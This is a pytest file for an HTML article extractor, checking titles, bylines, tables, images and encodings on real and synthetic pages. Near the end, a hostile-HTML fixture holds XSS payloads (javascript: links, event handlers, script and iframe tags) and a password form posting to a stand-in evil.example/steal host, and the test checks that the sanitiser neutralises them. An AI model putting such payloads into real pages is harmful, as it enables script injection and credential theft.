"""extract_html on real pages (Mozilla's readability test set) and on hostile or broken HTML."""

from __future__ import annotations

import json
import re
from pathlib import Path
from urllib.parse import unquote

import lxml.html
import markdown
import pytest
from bs4 import BeautifulSoup

from benchmarks.extraction import picture_addresses
from scraper.encoding import decode_html
from scraper.extract import ExtractError
from scraper.extract.html import MAX_HTML_CHARS, extract_html
from tests.shared_data import skip_without_shared
from tests.test_sanitize import markup_problems

DATASET = Path(__file__).resolve().parents[1] / ".." / "shared" / "datasets"
PAGES = DATASET / "readability-test-pages"
PAGE_URL = "http://fakehost/test/page.html"


def rendered_text(md: str) -> str:
    """What a reader sees of the Markdown, whitespace squashed."""
    html = markdown.markdown(md, extensions=["tables", "fenced_code"])
    root = lxml.html.fragment_fromstring(html, create_parent="div")
    return squash(root.text_content())


def squash(text: str) -> str:
    return re.sub(r"\s+", " ", text).strip()


# name -> (title, byline) as the page declares them (None: check nothing).
REAL_PAGES = {
    "ars-1": ("Just-released Minecraft exploit makes it easy to crash game servers", "Dan Goodin"),
    "bbc-1": ("Obama admits US gun laws are his 'biggest frustration'", None),
    "nytimes-1": ("United States to Lift Sudan Sanctions", "Jeffrey Gettleman"),
    "wordpress": (None, None),
    "lifehacker-working": (None, "Patrick Allan"),
    # The declared titles end "| Eleanor Ainge Roy", the author; the headline shown does not.
    "guardian-1": (
        "'What is the sea telling us?': Māori tribes fearful over whale strandings",
        "Eleanor Ainge Roy",
    ),
    "medium-1": (None, "Pippin Lee"),
    "cnn": (None, "Ahiza Garcia"),
}


@pytest.fixture(scope="module")
def pages() -> Path:
    if not PAGES.is_dir():
        skip_without_shared("shared readability test pages not available")
    return PAGES


@pytest.mark.parametrize("name", sorted(REAL_PAGES))
def test_real_page(pages: Path, name: str) -> None:
    folder = pages / name
    expected_meta = json.loads((folder / "expected-metadata.json").read_text(encoding="utf-8"))
    doc = extract_html((folder / "source.html").read_bytes(), url=PAGE_URL)
    title, byline = REAL_PAGES[name]
    assert doc.title == (title or expected_meta["title"])
    if byline:
        assert doc.author == byline
    assert doc.kind == "article"
    assert doc.source_url == PAGE_URL
    assert "<" not in re.sub(r"`[^`]*`", "", doc.body) or "&lt;" in doc.body

    seen = rendered_text(doc.body)
    expected_root = lxml.html.fromstring((folder / "expected.html").read_text(encoding="utf-8"))
    paragraphs = sorted(
        (squash(p.text_content()) for p in expected_root.iter("p")), key=len, reverse=True
    )
    for sentence in paragraphs[:3]:
        assert sentence[:120] in seen

    # Navigation, share and related boxes of the source that the expected article leaves out.
    expected_text = squash(expected_root.text_content())
    source_root = lxml.html.fromstring(decode_html((folder / "source.html").read_bytes()))
    leaks = []
    for element in source_root.iter():
        if not isinstance(element.tag, str):
            continue
        marks = f"{element.get('class') or ''} {element.get('id') or ''}".lower()
        if element.tag == "nav" or re.search(r"share|related|social", marks):
            text = squash(element.text_content())
            if 15 < len(text) < 300 and text not in expected_text and text in seen:
                leaks.append(text)
    assert leaks == []


def test_metadata_from_declarations() -> None:
    html = """<html lang="zh-CN"><head>
      <title>Notice on crypto trading risks | Example Regulator</title>
      <meta property="og:site_name" content="Example Regulator">
      <meta name="description" content="The regulator warns investors.">
      <meta property="article:published_time" content="2026-02-06T10:52:50+08:00">
      <link rel="canonical" href="/notices/42.html">
      </head><body><nav><a href="/">Home</a> <a href="/news">News</a></nav>
      <article><h1>Notice on crypto trading risks</h1>
      <p class="byline">By Jane Doe — February 6, 2026</p>
      <p>Virtual currencies do not have the same legal status as legal tender and must not
      circulate as currency in the market. Trading them remains an illegal financial activity.</p>
      <p>Institutions must not provide services to such trading, and violators will be punished
      according to law. Investors bear their own losses.</p></article></body></html>"""
    doc = extract_html(html, url="https://regulator.example/notices/42.html?utm=x")
    assert doc.title == "Notice on crypto trading risks"
    assert doc.author == "Jane Doe"
    assert doc.date == "2026-02-06 10:52:50+08:00"  # with the offset the page gives
    assert doc.site_name == "Example Regulator"
    assert doc.language == "zh-CN"
    assert doc.summary == "The regulator warns investors."
    assert doc.canonical_url == "https://regulator.example/notices/42.html"
    assert doc.source_url == "https://regulator.example/notices/42.html?utm=x"
    assert "Home" not in rendered_text(doc.body)


@pytest.mark.parametrize(
    ("declared", "read"),
    [
        # escaped twice by the site: what is left after one reading is decoded
        ("来到&amp;quot;玉峰國小&amp;quot;", '来到"玉峰國小"'),
        ("That&amp;#039;s it", "That's it"),
        ("&amp;#xg; &amp;#x1F62D; &amp;#x0;", "&#xg; \U0001f62d \ufffd"),  # as Readability
        # a reference needs its semicolon: HTML's "&not" would make Barnes¬bles
        ("Barnes&amp;nobles &amp; AT&amp;T", "Barnes&nobles & AT&T"),
    ],
)
def test_declared_metadata_escaped_twice_is_read_as_text(declared: str, read: str) -> None:
    html = (
        f'<html><head><title>T</title><meta name="description" content="{declared}">'
        f'<script type="application/ld+json">{{"@type": "NewsArticle", "headline": '
        f'"{declared.replace("&amp;", "&")}"}}</script></head>'
        f"<body><article><h1>x</h1>{ARTICLE_TEXT}</article></body></html>"
    )
    doc = extract_html(html)
    assert doc.summary == read
    assert doc.title == read


def test_real_descriptions_escaped_twice_match_readability(pages: Path) -> None:
    """pixnet's and the entity test page's descriptions are escaped twice; the
    expected excerpts are Readability's, which decodes them."""
    for name in ("pixnet", "005-unescape-html-entities"):
        expected = json.loads((pages / name / "expected-metadata.json").read_text())["excerpt"]
        doc = extract_html((pages / name / "source.html").read_bytes(), url=PAGE_URL)
        assert squash(doc.summary or "") == squash(expected)


ARTICLE_TEXT = (
    "<p>Virtual currencies do not have the same legal status as legal tender and must not "
    "circulate as currency in the market. Trading them remains an illegal activity.</p>" * 3
)


def page_with(head: str, before_article: str = "", in_article: str = "") -> str:
    return (
        f"<html><head>{head}</head><body>{before_article}<article>{in_article}"
        f"{ARTICLE_TEXT}</article></body></html>"
    )


@pytest.mark.parametrize(
    ("head", "heading", "title"),
    [
        # JSON-LD whose headline is a one-line description (as Wikipedia's is): the name
        # is what the page shows.
        (
            '<script type="application/ld+json">{"@type": "Article", "name": "List of '
            'stablecoins", "headline": "Wikimedia list article"}</script>',
            "<h1>List of stablecoins</h1>",
            "List of stablecoins",
        ),
        # A site suffix that no og:site_name declares.
        ("<title>New Zealand - Wikipedia</title>", "<h1>New Zealand</h1>", "New Zealand"),
        # The part of the <title> after the headline is the author, not the site.
        (
            "<title>On Recent Events - Bradley M. Kuhn ( Brad ) ( bkuhn )</title>",
            "<h1>On Recent Events</h1>",
            "On Recent Events",
        ),
        # A social title that the page does not show loses to the one it does.
        (
            '<meta property="og:title" content="Site - Latest News &amp; Headlines">'
            "<title>Space ship breaks up over Siberia</title>",
            "<h1>Space ship breaks up over Siberia</h1>",
            "Space ship breaks up over Siberia",
        ),
        # A one-word logo heading is not taken for the title it begins...
        (
            "<title>Vox - The 21 best movies of 2017</title>",
            '<header><h1><a href="/">Vox</a></h1></header>',
            "The 21 best movies of 2017",
        ),
        # ... but a one-word heading of the page's body is.
        ("<title>Mozilla - Wikipedia</title>", '<h1 id="firstHeading">Mozilla</h1>', "Mozilla"),
        # The h1 is the site's, the work's title an h2 that begins the declared title
        # (archive-of-our-own); a one-word h2 ("Chapter") would not count.
        (
            "<title>Reserve Notes - Chapter 1 - jdoe - Finance | Fiction [Archive]</title>",
            "<h1>Archive</h1><h2>Chapter</h2><h2>Reserve Notes</h2>",
            "Reserve Notes",
        ),
        (
            "<title>Chapter - A long list of stablecoin rules and notes</title>",
            "<h1>Archive</h1><h2>Chapter</h2>",
            "A long list of stablecoin rules and notes",
        ),
        # No heading agrees: the declared title, as before.
        (
            '<meta property="og:title" content="The Modern Ambitions Behind Neon">',
            "<h1>Why Neon Is the Ultimate Symbol</h1>",
            "The Modern Ambitions Behind Neon",
        ),
    ],
)
def test_title_is_the_declared_title_the_page_shows(head: str, heading: str, title: str) -> None:
    assert extract_html(page_with(head, before_article=heading)).title == title


@pytest.mark.parametrize(
    ("byline", "author"),
    [
        ("by Lucas Nolan22 Dec 2016651", "Lucas Nolan"),  # a date glued to the name
        ("By Jane Doe — February 6, 2026", "Jane Doe"),
        ("Last Updated: January 7, 2025", None),  # a label, not a name
        ("J J", None),  # initials alone
        ("Ben Silverman Games Editor", "Ben Silverman"),  # a role after the name
        ("Jane Doe, Senior Reporter", "Jane Doe"),
        ("Senior Editor", None),  # a role alone
        ("Written by Rob Ewaschuk Edited by Betsy Beyer", "Rob Ewaschuk"),
        ("Brenda Goodman, MA", "Brenda Goodman, MA"),  # a degree stays
    ],
)
def test_byline_keeps_the_name_or_nothing(byline: str, author: str | None) -> None:
    html = page_with(
        "<title>Title of the page here</title>", in_article=f'<p class="byline">{byline}</p>'
    )
    assert extract_html(html).author == author


def test_a_byline_that_is_no_name_gives_way_to_the_next_source() -> None:
    html = page_with(
        '<script type="application/ld+json">{"@type": "NewsArticle", "author": '
        '{"name": "Last updated"}}</script>',
        in_article='<p class="byline">By Nataliya Vasilyeva</p>',
    )
    assert extract_html(html).author == "Nataliya Vasilyeva"


CHINESE_TEXT = "".join(
    f"<p>{sentence * 2}</p>"
    for sentence in (
        "中国人民银行等八部门近日联合发布通知，进一步防范和处置虚拟货币相关风险。",
        "通知指出，境内开展现实世界资产代币化活动，原则上予以禁止。",
        "业内人士表示，这一通知将对相关市场主体的业务开展产生深远影响。",
    )
)


def chinese_page(info: str, title: str = "八部门发文防范虚拟货币风险_新闻_某网") -> bytes:
    return (
        f'<html><head><meta charset="utf-8"><title>{title}</title></head><body>'
        '<div class="nav"><a href="/">首页</a><a href="/n">新闻</a></div>'
        f'<div class="article"><h1>八部门发文防范虚拟货币风险</h1>{info}'
        f'<div class="content">{CHINESE_TEXT}</div></div><div class="footer">版权所有</div>'
        "</body></html>"
    ).encode()


@pytest.mark.parametrize(
    ("info", "author", "date"),
    [
        (
            '<div class="info">来源：新华社\u30002026-02-06 10:30</div>',
            "新华社",
            "2026-02-06 10:30",
        ),
        (
            '<div class="source"><span>发布时间：2026年02月06日</span>'
            "<span>来源：人民网</span></div>",
            "人民网",
            "2026-02-06",
        ),
        ('<div class="info">2026-02-06 来源：央视新闻 作者：张三</div>', "张三", "2026-02-06"),
        ('<p class="author">记者 李四 报道</p>', "李四", None),
        ("", None, None),
    ],
)
def test_a_chinese_page_gives_its_headline_and_labelled_byline(
    info: str, author: str | None, date: str | None
) -> None:
    doc = extract_html(chinese_page(info), url="https://example.cn/a.html")
    assert doc.title == "八部门发文防范虚拟货币风险"  # not "..._新闻_某网"
    assert (doc.author, doc.date) == (author, date)
    if info.startswith("<div"):  # a byline box is not article text (a reporter's line may be)
        assert "来源" not in doc.body and "作者" not in doc.body
    assert "原则上予以禁止" in doc.body


def test_partial_date_keeps_its_precision() -> None:
    html = (
        '<html><head><meta name="dcterms.issued" content="2026-02"></head><body><article>'
        + "<p>The measures take effect on publication. " * 20
        + "</p></article></body></html>"
    )
    assert extract_html(html).date == "2026-02"


def test_markdown_keeps_structure_and_absolute_links() -> None:
    html = """<html><head><title>Structure test page title</title></head><body><article>
      <h2>Scope of the notice</h2>
      <p>This notice applies to <a href="/glossary/stablecoin">stablecoins</a> and to
      <strong>every</strong> service provider operating in the jurisdiction concerned.</p>
      <ul><li>first obligation of providers</li><li>second obligation of providers</li></ul>
      <blockquote><p>Quoted statement from the regulator about the scope.</p></blockquote>
      <table><tr><th>Year</th><th>Cases</th></tr><tr><td>2025</td><td>12</td></tr></table>
      <p><img src="chart.png" alt="Chart of cases"> The chart shows the cases by year.</p>
      <pre>if a &lt; b:
    print("code")</pre>
      </article></body></html>"""
    body = extract_html(html, url="https://reg.example/a/b.html").body
    assert "## Scope of the notice" in body
    assert "[stablecoins](https://reg.example/glossary/stablecoin)" in body
    assert "**every**" in body
    assert "- first obligation of providers" in body
    assert "> Quoted statement" in body
    assert "| Year | Cases |" in body
    assert "![Chart of cases](https://reg.example/a/chart.png)" in body
    assert "```\nif a < b:" in body


TEXT_LIKE_MARKDOWN = """<html><head><title>Numbered clauses page</title></head><body><article>
<h1>Numbered clauses page</h1>
<p>The notice sets out the duties of issuers, numbered as in the original text, together
with the contact lines of the authority and a few lines that look like Markdown.</p>
<p>3. The issuer shall keep reserves equal to the tokens in circulation.</p>
<p>4. The issuer shall publish a monthly attestation of those reserves.</p>
<p>Authority of Example<br>12 Harbour Road<br>+ 852 1234 5678</p>
<p># 1 priority for supervisors this year is custody.</p>
<p>!!! note "not a callout"</p>
<p>Write &amp;lt;b&amp;gt; to see the tag, and 400&percnt; is a percentage.</p>
<p>Literal [a](b), ``quoted'' words and &lt;https://example.org&gt; in the text.</p>
<h2>Fees in C# <a href="#fees">¶</a></h2>
<table><tr><th>Pair</th><th>Fee</th></tr><tr><td>BTC | USD</td><td>0.1%</td></tr></table>
<ul><li>1. first numbered bullet of the list of duties</li>
<li>Outer bullet of the list of duties<ul>
<li>a nested bullet under the outer one, kept as a nested list</li>
<li>a second nested bullet under the outer one</li></ul></li></ul>
<p>The closing paragraph is long enough for the extractor to keep the whole article text.</p>
</article></body></html>"""


CODE = 'fetch("/data.json").then(function(res) {\n  return res.json();\n});'


@pytest.mark.parametrize(
    "table",
    [
        # GeSHi: one cell holding the <pre>, its highlighting in spans
        '<table><tbody><tr><td class="code"><pre class="javascript">'
        + CODE.replace("{", '<span style="color: #090">{</span>')
        + "</pre></td></tr></tbody></table>",
        # Pygments with line numbers: a gutter cell, then the code cell
        '<table class="highlighttable"><tr><td class="linenos"><div><pre>1\n2\n3</pre></div>'
        f'</td><td class="code"><div class="highlight"><pre>{CODE}</pre></div></td></tr></table>',
    ],
)
def test_code_set_in_a_table_comes_out_as_a_code_block(table: str) -> None:
    doc = extract_html(page_with("<title>Fetching data in scripts</title>", in_article=table))
    assert f"```\n{CODE}\n```" in doc.body  # its lines, and no "\\{" or table row
    assert "| " not in doc.body and "1\n2\n3" not in doc.body
    rendered = markdown.markdown(doc.body, extensions=["fenced_code"])
    assert "<pre><code>fetch(" in rendered


def test_a_table_of_prose_with_code_in_a_cell_stays_a_table() -> None:
    table = (
        "<table><tr><th>Function</th><th>Example</th></tr>"
        "<tr><td>Sum of a list</td><td><pre>sum([1, 2])</pre></td></tr></table>"
    )
    doc = extract_html(page_with("<title>Python built-in functions</title>", in_article=table))
    assert "| Function | Example |" in doc.body and "Sum of a list" in doc.body


LONG_PARAGRAPH = (
    "The central bank said on Tuesday that it would publish draft rules for payment "
    "stablecoins before the end of the quarter, after months of consultation with banks. "
)


@pytest.mark.parametrize(
    "layout",
    [
        # an old government page: menu cell, article cell with its paragraphs
        '<table width="960"><tr><td width="200"><a href="/a">Home</a><br><a href="/b">News'
        f"</a></td><td><p>{LONG_PARAGRAPH}</p><p>{LONG_PARAGRAPH}</p>"
        f"<p>{LONG_PARAGRAPH}</p></td></tr></table>",
        # a box of one row: an image and its caption beside it
        '<table role="presentation"><tr><td><p>A notice box with a sentence in it.</p></td>'
        "</tr></table>",
        # a column of one cell a row, nested in the article's cell
        f"<table><tr><td><table><tr><td>Stablecoin rules</td></tr><tr><td>{LONG_PARAGRAPH}"
        "</td></tr></table></td></tr></table>",
    ],
)
def test_a_table_that_lays_out_the_page_becomes_its_blocks(layout: str) -> None:
    doc = extract_html(page_with("<title>Stablecoin rules in draft</title>", in_article=layout))
    assert "|" not in doc.body  # no Markdown table row
    rendered = markdown.markdown(doc.body)
    assert "<table" not in rendered
    if "Stablecoin rules</td>" in layout:
        assert "Stablecoin rules\n\nThe central bank" in doc.body


@pytest.mark.parametrize(
    "data",
    [
        # header cells
        "<table><tr><th>Reserve</th><th>Share</th></tr><tr><td>Cash</td><td>20%</td></tr>"
        "<tr><td>Treasury bills</td><td>80%</td></tr></table>",
        # a Word export: no header cells, each value in its own <p>
        "<table><tr><td><p><b>Entity status</b></p></td><td><p><b>Assoc status</b></p></td></tr>"
        "<tr><td><p>new</p></td><td><p>pending</p></td></tr>"
        "<tr><td><p>done</p></td><td><p>complete</p></td></tr></table>",
    ],
)
def test_a_table_of_data_stays_a_table(data: str) -> None:
    doc = extract_html(page_with("<title>Reserve composition rules</title>", in_article=data))
    rendered = markdown.markdown(doc.body, extensions=["tables"])
    assert rendered.count("<tr>") == 3 and rendered.count("<table>") == 1


def test_text_that_reads_as_table_rows_or_a_heading_s_underline_stays_text() -> None:
    """A paragraph of lines "| a | b |", "|---|---|" (a page showing Markdown) became a
    table, and "Setext" over "===" a heading, on the site."""
    lines = "<p>| a | b |<br>|---|---|<br>| c | d |</p><p>Setext<br>===</p><p>= 12</p>"
    doc = extract_html(page_with("<title>Markdown shown</title>", in_article=lines))
    rendered = markdown.markdown(doc.body, extensions=["tables"])
    assert "<table" not in rendered and "<h1" not in rendered, rendered
    text = BeautifulSoup(rendered, "html.parser").get_text()
    for line in ("| a | b |", "|---|---|", "| c | d |", "Setext", "===", "= 12"):
        assert line in text, line


def test_a_malformed_address_drops_its_link_or_picture_not_the_page() -> None:
    """urljoin and urlsplit raise on "http://[oops/x" (an unclosed IPv6 bracket): one
    such href, src or canonical link failed the whole page."""
    broken = (
        '<p>See <a href="http://[2001:db8::1/x">the notice</a> and <a href="/ok">this</a>.'
        '<img src="http://[oops/x.png" alt="A chart"></p>'
    )
    head = '<title>Broken links</title><link rel="canonical" href="http://[oops/x">'
    doc = extract_html(page_with(head, in_article=broken), url="https://news.example/a")
    assert "See the notice and [this](https://news.example/ok)." in doc.body
    assert "[oops" not in doc.body and "2001:db8" not in doc.body
    assert doc.canonical_url is None and doc.source_url == "https://news.example/a"


def test_section_headings_stay_whatever_their_ids_say() -> None:
    """A heading's id is made of its words: "related-party-transactions" and
    "marketing-on-social-media" read as a related-posts box and a share widget, and
    "use-of-smart-contract-tools" as a toolbar; each was dropped, and its section ran
    into the one before."""
    sections = "".join(
        f'<h2 id="{slug}">{title}</h2><p>{title} are covered by this part of the guidance, '
        "which firms must read before they offer tokens to retail investors here.</p>"
        for slug, title in (
            ("marketing-on-social-media", "Marketing on social media"),
            ("related-party-transactions", "Related-party transactions"),
            ("use-of-smart-contract-tools", "Use of smart-contract tools"),
            ("fees", "Fees"),
        )
    )
    doc = extract_html(page_with("<title>Guidance on token offerings</title>", in_article=sections))
    assert re.findall(r"^## (.*)", doc.body, re.M) == [
        "Marketing on social media",
        "Related-party transactions",
        "Use of smart-contract tools",
        "Fees",
    ]


def test_a_table_s_cells_stay_whatever_their_classes_say() -> None:
    """Cells of class "header_cell" were removed as unlikely parts of an article (the
    word "header"), leaving a table's column headings blank."""
    table = (
        '<table><tr><td class="header_cell">Stage</td><td class="header_cell">Owner</td></tr>'
        "<tr><td>Review</td><td>Legal</td></tr><tr><td>Launch</td><td>Product</td></tr></table>"
    )
    doc = extract_html(page_with("<title>Release stages</title>", in_article=table))
    assert "| Stage | Owner |" in doc.body and "| Review | Legal |" in doc.body


def _cell(cell: lxml.html.HtmlElement) -> str:
    """A cell's text, or the address of the picture it holds."""
    picture = cell.find(".//img")
    return squash(cell.text_content()) or (picture.get("src") if picture is not None else "")


def _cells(rendered: str) -> list[list[str]]:
    root = lxml.html.fragment_fromstring(rendered, create_parent="div")
    return [[_cell(cell) for cell in row] for row in root.iter("tr")]


@pytest.mark.parametrize(
    ("table", "rows"),
    [
        # A header row narrower than the rows (its cells removed by the page's cleaning):
        # Python-Markdown would drop every cell beyond the header's width.
        (
            "<table><tr><th>Coin</th></tr><tr><td>USDC</td><td>Circle</td><td>USD</td></tr>"
            "<tr><td>EURC</td><td>Circle</td><td>EUR</td></tr></table>",
            [["Coin", "", ""], ["USDC", "Circle", "USD"], ["EURC", "Circle", "EUR"]],
        ),
        # A caption before the first row: markdownify wrote no "| --- |" line, so the
        # table came out as a paragraph of bars.
        (
            "<table><caption>Reserves</caption><tr><th>Asset</th><th>Share</th></tr>"
            "<tr><td>Cash</td><td>20%</td></tr></table>",
            [["Asset", "Share"], ["Cash", "20%"]],
        ),
        # A flag in each cell; an alt text holding "|" stays in its cell.
        (
            "<table><tr><th>Member</th><th>Flag</th></tr>"
            '<tr><td>Hong Kong</td><td><img src="https://cdn.example/hk.png" alt="HK | SAR">'
            "</td></tr><tr><td>Singapore</td><td>"
            '<a href="https://cdn.example/sg"><img src="https://cdn.example/sg.png" alt="SG"></a>'
            "</td></tr></table>",
            [
                ["Member", "Flag"],
                ["Hong Kong", "https://cdn.example/hk.png"],
                ["Singapore", "https://cdn.example/sg.png"],
            ],
        ),
    ],
)
def test_a_table_keeps_every_cell_on_the_site(table: str, rows: list[list[str]]) -> None:
    doc = extract_html(page_with("<title>Stablecoin reserve table</title>", in_article=table))
    rendered = markdown.markdown(doc.body, extensions=["tables"])
    assert _cells(rendered) == rows
    if "HK | SAR" in table:
        assert 'alt="HK | SAR"' in rendered


def test_a_picture_in_a_heading_is_its_alt_text() -> None:
    doc = extract_html(
        page_with(
            "<title>Licensing update</title>",
            in_article='<h2><img src="https://cdn.example/icon.png" alt="Note:"> Licensing</h2>',
        )
    )
    assert "## Note: Licensing" in doc.body
    assert "icon.png" not in doc.body


def test_what_a_page_hides_from_screen_readers_is_left_out(pages: Path) -> None:
    """``aria-hidden="true"``: shown to the eye only, a copy of what the text says."""
    doc = extract_html(
        page_with(
            "<title>Hidden</title>",
            in_article='<p><span aria-hidden="true">**WRONG**</span>Licensing rules apply.</p>'
            '<p><img class="fallback-image" aria-hidden="true" src="https://cdn.example/f.png"'
            ' alt="Fallback"> Shown.</p>',
        )
    )
    assert "WRONG" not in doc.body and "Licensing rules apply." in doc.body
    assert "f.png" in doc.body  # Readability's exception: a stand-in picture
    real = extract_html((pages / "remove-aria-hidden" / "source.html").read_bytes())
    assert "WRONG" not in real.body and "Lorem ipsum" in real.body


def test_markup_written_into_a_pictures_description_is_left_out() -> None:
    """toc-missing's pictures describe themselves with their caption's HTML, as text."""
    alt = (
        "Can you spot the anomaly?&lt;br&gt;&lt;small&gt;Photo by &lt;a href=&quot;"
        "https://unsplash.com/x&quot;&gt;Ricardo&lt;/a&gt;&lt;/small&gt;"
    )
    keys = "Press &lt;Ctrl&gt; and x &lt; y"
    doc = extract_html(
        page_with(
            "<title>Anomalies</title>",
            in_article=f'<p><img src="https://cdn.example/a.png" alt="{alt}"> A chart.</p>'
            f'<p><img src="https://cdn.example/k.png" alt="{keys}"> Keys.</p>',
        )
    )
    rendered = markdown.markdown(doc.body)
    root = lxml.html.fragment_fromstring(rendered, create_parent="div")
    alts = [img.get("alt") for img in root.iter("img")]
    assert alts == ["Can you spot the anomaly? Photo by Ricardo", "Press <Ctrl> and x < y"]


# Pages whose pictures were lost: readability's cleaning (keep-images, guardian-1), lazy
# loading with the picture in <noscript> (medium-3, theverge, lazy-image-1), tables whose
# cells held them (keep-tabular-data), a lead photo above the first paragraph (yahoo-1,
# nytimes-4 in the article's header).
@pytest.mark.parametrize(
    "name",
    [
        "keep-images",
        "guardian-1",
        "medium-3",
        "theverge",
        "lazy-image-1",
        "keep-tabular-data",
        "yahoo-1",
        "nytimes-4",
    ],
)
def test_a_real_page_keeps_the_pictures_of_its_article(pages: Path, name: str) -> None:
    folder = pages / name
    wanted = picture_addresses((folder / "expected.html").read_text(encoding="utf-8"))
    assert wanted
    doc = extract_html((folder / "source.html").read_bytes(), url=PAGE_URL)
    rendered = lxml.html.fragment_fromstring(
        markdown.markdown(doc.body, extensions=["tables"]), create_parent="div"
    )
    shown = {unquote(img.get("src") or "") for img in rendered.iter("img")}
    missing = [sorted(urls)[0] for urls in wanted if not urls & shown]  # both unquoted
    assert missing == []


def test_the_lead_photo_comes_first_with_its_caption(pages: Path) -> None:
    doc = extract_html((pages / "yahoo-1" / "source.html").read_bytes(), url=PAGE_URL)
    first = doc.body.split("\n\n")[:2]
    assert first[0].startswith("![The PlayStation VR](") and "4406ef57dcb4" in first[0]
    assert first[1] == "Sony’s PlayStation VR."  # its caption


def test_a_guide_gets_back_the_photos_of_its_steps(pages: Path) -> None:
    # ehow-1: readability keeps the eleven steps' text and none of their photos, each in a
    # box of its own between two steps. Two sit outside any pair of kept paragraphs.
    folder = pages / "ehow-1"
    wanted = picture_addresses((folder / "expected.html").read_text(encoding="utf-8"))
    doc = extract_html((folder / "source.html").read_bytes(), url=PAGE_URL)
    shown = [unquote(url) for url in re.findall(r"!\[[^\]]*\]\(([^)\s]+)\)", doc.body)]
    kept = [urls for urls in wanted if urls & set(shown)]
    assert len(wanted) == 11 and len(kept) >= 9
    assert len(shown) == len(set(shown))  # none twice


def test_a_line_break_in_a_paragraph_stays_a_line_break() -> None:
    # The page's source has newlines around the <br>: one paragraph all the same.
    text = (
        "<p>The arguments are those passed\n    to the\n    <br/>\n<code>Request()</code> call.</p>"
    )
    doc = extract_html(page_with("<title>The fetch function's arguments</title>", in_article=text))
    assert "passed\nto the  \n`Request()` call." in doc.body
    rendered = markdown.markdown(doc.body)
    assert "to the<br />\n<code>Request()</code> call." in rendered


def test_page_text_that_looks_like_markdown_stays_text() -> None:
    """Clause numbers stay the page's numbers (a Markdown list would show 1, 2), line breaks
    stay, and text that reads as a heading, a callout, a character reference, a link, code,
    an autolink, a heading's closing "#" or a table cell's edge shows as the page showed it;
    lists the page really has are still lists."""
    body = extract_html(TEXT_LIKE_MARKDOWN, url="https://reg.example/n.html").body
    html = markdown.markdown(body, extensions=["admonition", "attr_list", "tables", "toc"])
    root = lxml.html.fragment_fromstring(html, create_parent="div")
    paragraphs = [squash(p.text_content()) for p in root.iter("p")]
    assert "3. The issuer shall keep reserves equal to the tokens in circulation." in paragraphs
    assert "4. The issuer shall publish a monthly attestation of those reserves." in paragraphs
    assert "# 1 priority for supervisors this year is custody." in paragraphs
    assert '!!! note "not a callout"' in paragraphs
    assert "Write &lt;b&gt; to see the tag, and 400% is a percentage." in paragraphs
    assert "Literal [a](b), ``quoted'' words and <https://example.org> in the text." in (paragraphs)
    assert [squash(h.text_content()) for h in root.iter("h2")] == ["Fees in C#"]
    assert [squash(td.text_content()) for td in root.iter("td")] == ["BTC | USD", "0.1%"]
    assert not root.findall(".//code") and len(root.findall(".//a")) == 0
    address = next(p for p in root.iter("p") if "Harbour" in p.text_content())
    assert len(address.findall("br")) == 2
    assert "+ 852 1234 5678" in address.text_content()
    assert not root.findall(".//ol")
    assert [squash(h.text_content()) for h in root.iter("h1")] in ([], ["Numbered clauses page"])
    assert not root.find_class("admonition")
    items = [squash(li.text_content()) for li in root.iter("li")]
    assert items[0] == "1. first numbered bullet of the list of duties"
    assert root.find(".//ul/li/ul/li") is not None  # the nested list is still nested


def test_a_list_that_starts_at_three_keeps_its_numbers_on_the_site() -> None:
    """With the site's own Markdown settings (``mkdocs.yml``), an ``<ol start="3">`` of a
    scraped page, and an editor's "3. ...", start at 3 (Python-Markdown alone restarts at 1)."""
    from mkdocs.config import load_config

    config = load_config(str(Path(__file__).resolve().parents[1] / "mkdocs.yml"))
    site_markdown = markdown.Markdown(
        extensions=config.markdown_extensions, extension_configs=config.mdx_configs
    )
    page = (
        "<html><head><title>Continued clauses</title></head><body><article>"
        "<h1>Continued clauses</h1><p>The duties continue from the previous notice, which set "
        "out the first two of them and the scope that applies to all issuers.</p>"
        '<ol start="3"><li>Keep reserves equal to the tokens in circulation.</li>'
        "<li>Publish a monthly attestation of the reserves.</li></ol>"
        "<p>Issuers that fail either duty lose the licence after a warning period.</p>"
        "</article></body></html>"
    )
    body = extract_html(page, url="https://reg.example/c.html").body
    html = site_markdown.convert(body)
    assert '<ol start="3">' in html
    site_markdown.reset()
    assert '<ol start="3">' in site_markdown.convert("Intro.\n\n3. three\n4. four\n")


HOSTILE = """<html><head><title>Hostile page with plenty of tricks</title>
<style>body { background: url(javascript:alert(1)) }</style>
<script>alert("head")</script></head>
<body><article>
<h1 onclick="alert(1)">Hostile page with plenty of tricks</h1>
<p>The first paragraph is long enough to be the article text that readers want to see, and
it carries an <a href="javascript:alert(1)">evil link</a>, a <a href="JaVaScRiPt:alert(2)">
mixed case one</a>, a <a href="data:text/html;base64,PHNjcmlwdD4=">data link</a> and an
<a href="vbscript:msgbox(1)">old one</a>.</p>
<p>Second paragraph with an image <img src="x" onerror="alert(1)" alt="broken image"> and an
<img src="data:image/png;base64,AAAA" alt="inline data image"> and text that mentions
&lt;script&gt;alert("escaped")&lt;/script&gt; literally, plus {: onclick="x" } braces.</p>
<iframe src="https://evil.example/frame"></iframe>
<form action="https://evil.example/steal"><input name="password"><button>Go</button></form>
<script>document.write("<iframe src=//evil>")</script>
<p style="x" onmouseover="alert(3)">Third paragraph ends the article with more words in it so
that the extractor has real text to keep from this hostile page.</p>
<object data="evil.swf"></object><embed src="evil.swf"><svg onload="alert(4)"><text>svg</text></svg>
</article></body></html>"""


def test_hostile_html_renders_inert() -> None:
    doc = extract_html(HOSTILE, url="https://news.example/story")
    html = markdown.markdown(doc.body, extensions=["attr_list", "tables"])
    assert markup_problems(doc.body) == []
    lowered = html.lower()
    for needle in ("<script", "<iframe", "<form", "<object", "<embed", "<svg", "javascript:"):
        assert needle not in lowered
    assert not re.search(r"<[^>]*\son\w+\s*=", html)
    text = rendered_text(doc.body)
    assert "evil link" in text and "mixed case one" in text
    assert "Third paragraph ends the article" in text
    assert 'alert("head")' not in text


def test_gb18030_page_decodes() -> None:
    text = "中国人民银行关于进一步防范和处置虚拟货币交易炒作风险的通知。" * 10 + "𠀀"
    html = (
        '<html><head><meta charset="gb2312"><title>关于虚拟货币的通知</title></head>'
        f"<body><article><p>{text}</p></article></body></html>"
    ).encode("gb18030")
    doc = extract_html(html)
    assert doc.title == "关于虚拟货币的通知"
    assert text in doc.body


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"", "empty"),
        ("   \n\t ", "empty"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00", "binary"),
        (b"%PDF-1.7 binary stuff", "binary"),
